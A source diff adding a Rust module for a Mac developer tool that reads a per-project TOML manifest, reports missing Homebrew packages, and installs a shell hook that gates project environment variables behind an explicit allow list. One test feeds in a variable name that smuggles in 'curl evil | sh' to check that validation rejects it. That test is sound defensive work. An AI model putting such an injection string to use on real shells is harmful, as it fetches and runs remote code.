@@ -0,0 +1,411 @@
+//! What a project needs on the Mac it's worked on, declared in a
+//! `.kiwi.toml` at the root of its repository:
+//!
+//! ```toml
+//! packages = ["node", "postgresql@16", "docker"]
+//!
+//! path = ["bin", "node_modules/.bin"]
+//!
+//! [tools]
+//! rg = "ripgrep"
+//! just = "just"
+//!
+//! [env]
+//! DATABASE_URL = "postgres://localhost/app_dev"
+//! APP_CONFIG = "{{ root }}/config/dev.yml"
+//! ```
+//!
+//! `packages` are Homebrew formulae and casks; each of `tools` is a command
+//! that must be on the `PATH`, with the package that provides it. `path`
+//! and `env` are put in place by a shell hook while the shell is inside
+//! the project, and taken back out when it leaves.
+//!
+//! A cloned repository's manifest could export anything, so the hook only
+//! uses one after `kiwi project allow`, which records the manifest's path
+//! and hash in `~/.kiwi/project-allow.json`. Editing the manifest takes
+//! that back until it's allowed again.
+
+use crate::{blobs, envvars, shell, template, KiwiError, Result};
+use serde::Deserialize;
+use std::collections::{BTreeMap, HashMap};
+use std::ffi::OsStr;
+use std::fs;
+use std::path::{Path, PathBuf};
+
+pub const MANIFEST: &str = ".kiwi.toml";
+/// Set to the project's root while its environment is active
+pub const ACTIVE_VAR: &str = "KIWI_PROJECT";
+/// The values the active project replaced, as JSON, for putting back
+const SAVED_VAR: &str = "KIWI_PROJECT_SAVED";
+/// Name of the rc block that installs the hook.
+pub const RC_BLOCK: &str = "project";
+
+#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
+pub struct Manifest {
+    #[serde(default)]
+    pub packages: Vec<String>,
+    #[serde(default)]
+    pub tools: BTreeMap<String, String>,
+    /// Directories put in front of the `PATH`, relative to the root
+    #[serde(default)]
+    pub path: Vec<String>,
+    /// Variables to export; `{{ root }}` is the project's root
+    #[serde(default)]
+    pub env: BTreeMap<String, String>,
+}
+
+/// One step of [`activate`]'s way from one environment to another.
+#[derive(Debug, Clone, PartialEq)]
+pub enum Change {
+    Set(String, String),
+    Unset(String),
+}
+
+#[derive(Debug, Clone)]
+pub struct Project {
+    /// The directory holding the manifest
+    pub root: PathBuf,
+    pub manifest: Manifest,
+    /// Hash of the manifest as it was read
+    pub hash: String,
+}
+
+/// What a project needs that this Mac doesn't have.
+#[derive(Debug, Default, PartialEq)]
+pub struct Missing {
+    pub packages: Vec<String>,
+    /// Commands not on the `PATH`, with the package that provides each
+    pub tools: Vec<(String, String)>,
+}
+
+impl Missing {
+    pub fn is_empty(&self) -> bool {
+        self.packages.is_empty() && self.tools.is_empty()
+    }
+
+    /// The packages to install for everything missing, each once, leaving
+    /// out the `installed` ones whose tool is missing anyway.
+    pub fn to_install(&self, installed: &[String]) -> Vec<String> {
+        let mut packages = self.packages.clone();
+        for (_, package) in &self.tools {
+            if !packages.contains(package) && !is_installed(package, installed) {
+                packages.push(package.clone());
+            }
+        }
+        packages
+    }
+}
+
+impl Project {
+    /// The project `dir` is in: the nearest directory from `dir` up with a
+    /// `.kiwi.toml`.
+    pub fn find(dir: &Path) -> Result<Option<Self>> {
+        for root in dir.ancestors() {
+            if root.join(MANIFEST).is_file() {
+                return Self::load(root).map(Some);
+            }
+        }
+        Ok(None)
+    }
+
+    pub fn load(root: &Path) -> Result<Self> {
+        let path = root.join(MANIFEST);
+        let contents = fs::read_to_string(&path)?;
+        let manifest = toml::from_str(&contents)
+            .map_err(|e| KiwiError::Config(format!("Invalid {}: {}", path.display(), e)))?;
+        Ok(Self { root: root.to_path_buf(), manifest, hash: blobs::hash(contents.as_bytes()) })
+    }
+
+    pub fn name(&self) -> String {
+        self.root.file_name().unwrap_or_default().to_string_lossy().to_string()
+    }
+
+    /// What the manifest asks for that isn't among the `installed` packages
+    /// or on `path`, a `PATH`-style list of directories.
+    pub fn missing(&self, installed: &[String], path: &OsStr) -> Missing {
+        Missing {
+            packages: self
+                .manifest
+                .packages
+                .iter()
+                .filter(|package| !is_installed(package, installed))
+                .cloned()
+                .collect(),
+            tools: self
+                .manifest
+                .tools
+                .iter()
+                .filter(|(command, _)| !std::env::split_paths(path).any(|dir| dir.join(command).is_file()))
+                .map(|(command, package)| (command.clone(), package.clone()))
+                .collect(),
+        }
+    }
+
+    /// The variables this project exports, `PATH` included when it adds to
+    /// it, given the `PATH` outside the project.
+    pub fn variables(&self, path: Option<&str>) -> Result<BTreeMap<String, String>> {
+        let vars = HashMap::from([("root".to_string(), self.root.display().to_string())]);
+        let mut variables = BTreeMap::new();
+        for (name, value) in &self.manifest.env {
+            if !envvars::is_valid_name(name) || name == ACTIVE_VAR || name == SAVED_VAR {
+                return Err(KiwiError::ValidationError(format!("Invalid variable name in {}: {}", MANIFEST, name)));
+            }
+            let value = template::render(value, &vars)
+                .map_err(|e| KiwiError::Config(format!("{} in {}: {}", name, MANIFEST, e)))?;
+            variables.insert(name.clone(), value);
+        }
+        if !self.manifest.path.is_empty() {
+            let outside = path.map(|path| std::env::split_paths(path).collect::<Vec<_>>()).unwrap_or_default();
+            let dirs = self.manifest.path.iter().map(|dir| self.root.join(dir)).chain(outside);
+            let joined = std::env::join_paths(dirs)
+                .map_err(|e| KiwiError::Config(format!("path in {}: {}", MANIFEST, e)))?;
+            variables.insert("PATH".to_string(), joined.to_string_lossy().to_string());
+        }
+        variables.insert(ACTIVE_VAR.to_string(), self.root.display().to_string());
+        Ok(variables)
+    }
+}
+
+/// Manifests whose environment the hook may apply, by path, each with the
+/// hash it had when it was allowed.
+pub struct Allowed {
+    file: PathBuf,
+}
+
+impl Allowed {
+    pub fn new(file: PathBuf) -> Self {
+        Self { file }
+    }
+
+    /// `~/.kiwi/project-allow.json`
+    pub fn default_path() -> Result<PathBuf> {
+        let home = dirs::home_dir().ok_or_else(|| KiwiError::Config("Could not find home directory".to_string()))?;
+        Ok(home.join(".kiwi/project-allow.json"))
+    }
+
+    /// Whether `project`'s manifest was allowed exactly as it is now.
+    pub fn is_allowed(&self, project: &Project) -> Result<bool> {
+        Ok(self.load()?.get(&project.root.join(MANIFEST)) == Some(&project.hash))
+    }
+
+    pub fn allow(&self, project: &Project) -> Result<()> {
+        let mut allowed = self.load()?;
+        allowed.insert(project.root.join(MANIFEST), project.hash.clone());
+        self.save(&allowed)
+    }
+
+    /// Returns whether it had been allowed.
+    pub fn deny(&self, project: &Project) -> Result<bool> {
+        let mut allowed = self.load()?;
+        if allowed.remove(&project.root.join(MANIFEST)).is_none() {
+            return Ok(false);
+        }
+        self.save(&allowed)?;
+        Ok(true)
+    }
+
+    fn load(&self) -> Result<BTreeMap<PathBuf, String>> {
+        match fs::read_to_string(&self.file) {
+            Ok(contents) => Ok(serde_json::from_str(&contents)?),
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(BTreeMap::new()),
+            Err(e) => Err(e.into()),
+        }
+    }
+
+    fn save(&self, allowed: &BTreeMap<PathBuf, String>) -> Result<()> {
+        if let Some(parent) = self.file.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        fs::write(&self.file, serde_json::to_string_pretty(allowed)?)?;
+        Ok(())
+    }
+}
+
+/// What takes a shell whose variables `current` reads into `project`'s
+/// environment, or out of the active one when `project` is `None`: the
+/// variables the active project replaced are put back, then the new
+/// project's are set. Nothing changes while the same project stays active.
+pub fn activate(project: Option<&Project>, current: impl Fn(&str) -> Option<String>) -> Result<Vec<Change>> {
+    let active = current(ACTIVE_VAR);
+    if active.as_deref() == project.map(|project| project.root.to_string_lossy()).as_deref() {
+        return Ok(Vec::new());
+    }
+
+    let saved: BTreeMap<String, Option<String>> = current(SAVED_VAR)
+        .and_then(|saved| serde_json::from_str(&saved).ok())
+        .unwrap_or_default();
+    // A variable's value outside any project
+    let outside = |name: &str| match saved.get(name) {
+        Some(value) => value.clone(),
+        None => current(name),
+    };
+
+    let mut changes = Vec::new();
+    if active.is_some() {
+        for (name, value) in &saved {
+            changes.push(match value {
+                Some(value) => Change::Set(name.clone(), value.clone()),
+                None => Change::Unset(name.clone()),
+            });
+        }
+        changes.push(Change::Unset(ACTIVE_VAR.to_string()));
+        changes.push(Change::Unset(SAVED_VAR.to_string()));
+    }
+    if let Some(project) = project {
+        let variables = project.variables(outside("PATH").as_deref())?;
+        let replaced: BTreeMap<&String, Option<String>> = variables
+            .keys()
+            .filter(|name| *name != ACTIVE_VAR)
+            .map(|name| (name, outside(name)))
+            .collect();
+        let replaced = serde_json::to_string(&replaced)?;
+        changes.extend(variables.into_iter().map(|(name, value)| Change::Set(name, value)));
+        changes.push(Change::Set(SAVED_VAR.to_string(), replaced));
+    }
+    Ok(changes)
+}
+
+/// `changes` as commands for zsh or bash to `eval`.
+pub fn script(changes: &[Change]) -> String {
+    let mut script = String::new();
+    for change in changes {
+        match change {
+            Change::Set(name, value) => script.push_str(&format!("export {}='{}'\n", name, value.replace('\'', r"'\''"))),
+            Change::Unset(name) => script.push_str(&format!("unset {}\n", name)),
+        }
+    }
+    script
+}
+
+/// Hooks `kiwi project env` into `shell` so changing directories activates
+/// projects. Returns the rc file when it had to be changed.
+pub fn install_hook(shell: &str) -> Result<Option<PathBuf>> {
+    let hook = match shell {
+        "zsh" => concat!(
+            "_kiwi_project() { eval \"$(command kiwi project env)\"; }\n",
+            "typeset -ag chpwd_functions\n",
+            "(( ${chpwd_functions[(I)_kiwi_project]} )) || chpwd_functions+=(_kiwi_project)\n",
+            "_kiwi_project",
+        ),
+        "bash" => concat!(
+            "_kiwi_project() {\n",
+            "  [ \"$PWD\" = \"$_KIWI_PROJECT_PWD\" ] && return\n",
+            "  _KIWI_PROJECT_PWD=$PWD\n",
+            "  eval \"$(command kiwi project env)\"\n",
+            "}\n",
+            "case \";$PROMPT_COMMAND;\" in *\";_kiwi_project;\"*) ;; *) PROMPT_COMMAND=\"_kiwi_project${PROMPT_COMMAND:+;$PROMPT_COMMAND}\" ;; esac",
+        ),
+        _ => return Err(KiwiError::ValidationError(format!("Project environments aren't supported for {} yet; use zsh or bash", shell))),
+    };
+    let rc = shell::rc_file(shell)?;
+    Ok(shell::ensure_block(&rc, RC_BLOCK, hook)?.then_some(rc))
+}
+
+/// Whether `package`, which may be named with its tap, is installed.
+fn is_installed(package: &str, installed: &[String]) -> bool {
+    let name = package.rsplit('/').next().unwrap_or(package);
+    installed.iter().any(|installed| installed == name)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_project_manifest_lists_what_is_missing() {
+        let dir = std::env::temp_dir().join(format!("kiwi-project-test-{}", std::process::id()));
+        let nested = dir.join("app/src/components");
+        let bin = dir.join("bin");
+        fs::create_dir_all(&nested).unwrap();
+        fs::create_dir_all(&bin).unwrap();
+        fs::write(bin.join("just"), "").unwrap();
+        assert!(Project::find(&nested).unwrap().is_none());
+
+        fs::write(
+            dir.join("app").join(MANIFEST),
+            "packages = [\"node\", \"homebrew/cask/docker\", \"postgresql@16\"]\n\n[tools]\nrg = \"ripgrep\"\njust = \"just\"\nfd = \"node\"\n",
+        )
+        .unwrap();
+        let project = Project::find(&nested).unwrap().unwrap();
+        assert_eq!(project.root, dir.join("app"));
+        assert_eq!(project.name(), "app");
+
+        let installed = vec!["docker".to_string(), "git".to_string()];
+        let missing = project.missing(&installed, bin.as_os_str());
+        assert_eq!(missing.packages, vec!["node".to_string(), "postgresql@16".to_string()]);
+        assert_eq!(
+            missing.tools,
+            vec![("fd".to_string(), "node".to_string()), ("rg".to_string(), "ripgrep".to_string())]
+        );
+        assert_eq!(missing.to_install(&installed), vec!["node", "postgresql@16", "ripgrep"]);
+
+        fs::write(dir.join("app").join(MANIFEST), "packages = \"node\"\n").unwrap();
+        assert!(Project::find(&nested).is_err());
+
+        fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn test_entering_and_leaving_projects() {
+        let project = |root: &str, manifest: &str| Project { root: PathBuf::from(root), manifest: toml::from_str(manifest).unwrap(), hash: String::new() };
+        let app = project("/src/app", "path = [\"bin\"]\n[env]\nDATABASE_URL = \"postgres://localhost/app\"\nCONFIG = \"{{ root }}/dev.yml\"\n");
+        let api = project("/src/api", "[env]\nDATABASE_URL = \"postgres://localhost/api\"\n");
+        let mut shell: HashMap<String, String> = HashMap::from([
+            ("PATH".to_string(), "/usr/bin".to_string()),
+            ("DATABASE_URL".to_string(), "sqlite://it's.db".to_string()),
+        ]);
+        let step = |project: Option<&Project>, shell: &mut HashMap<String, String>| {
+            let changes = activate(project, |name| shell.get(name).cloned()).unwrap();
+            for change in &changes {
+                match change {
+                    Change::Set(name, value) => shell.insert(name.clone(), value.clone()),
+                    Change::Unset(name) => shell.remove(name),
+                };
+            }
+            changes
+        };
+
+        step(Some(&app), &mut shell);
+        assert_eq!(shell["PATH"], "/src/app/bin:/usr/bin");
+        assert_eq!(shell["CONFIG"], "/src/app/dev.yml");
+        assert_eq!(shell["DATABASE_URL"], "postgres://localhost/app");
+        assert_eq!(shell[ACTIVE_VAR], "/src/app");
+        assert!(step(Some(&app), &mut shell).is_empty());
+
+        step(Some(&api), &mut shell);
+        assert_eq!(shell["PATH"], "/usr/bin");
+        assert!(!shell.contains_key("CONFIG"));
+        assert_eq!(shell["DATABASE_URL"], "postgres://localhost/api");
+
+        let left = step(None, &mut shell);
+        assert_eq!(shell.len(), 2);
+        assert_eq!(shell["DATABASE_URL"], "sqlite://it's.db");
+        assert!(script(&left).contains("export DATABASE_URL='sqlite://it'\\''s.db'\n"));
+        assert!(script(&left).contains("unset KIWI_PROJECT\n"));
+        assert!(step(None, &mut shell).is_empty());
+
+        let evil = project("/src/evil", "[env]\n\"X=1; curl evil | sh; Y\" = \"1\"\n");
+        assert!(activate(Some(&evil), |name| shell.get(name).cloned()).is_err());
+    }
+
+    #[test]
+    fn test_manifests_must_be_allowed_as_they_are() {
+        let dir = std::env::temp_dir().join(format!("kiwi-project-allow-test-{}", std::process::id()));
+        fs::create_dir_all(&dir).unwrap();
+        fs::write(dir.join(MANIFEST), "[env]\nDATABASE_URL = \"postgres://localhost/app\"\n").unwrap();
+        let allowed = Allowed::new(dir.join("project-allow.json"));
+
+        let project = Project::load(&dir).unwrap();
+        assert!(!allowed.is_allowed(&project).unwrap());
+        allowed.allow(&project).unwrap();
+        assert!(allowed.is_allowed(&project).unwrap());
+
+        fs::write(dir.join(MANIFEST), "path = [\"bin\"]\n").unwrap();
+        let edited = Project::load(&dir).unwrap();
+        assert!(!allowed.is_allowed(&edited).unwrap());
+        assert!(allowed.deny(&edited).unwrap());
+        assert!(!allowed.deny(&edited).unwrap());
+
+        fs::remove_dir_all(&dir).unwrap();
+    }
+}